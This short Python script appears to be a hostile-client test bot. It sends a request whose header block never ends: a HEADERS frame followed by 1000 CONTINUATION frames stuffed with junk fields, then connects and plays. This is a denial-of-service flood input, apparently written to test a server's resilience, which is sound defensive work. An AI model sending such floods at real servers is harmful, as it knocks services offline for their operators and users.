"""A bot that sends headers that do not end before it plays."""

from hostile.client import connect, join, play_on
from hostile.frames import CONTINUATION, HEADERS, HELLO, field, frame, pour, request

pour(
    HELLO,
    frame(HEADERS, 0, 1, request(b"/a/b")),
    *[frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100)] * 1000,
)
connect()
join()
play_on()
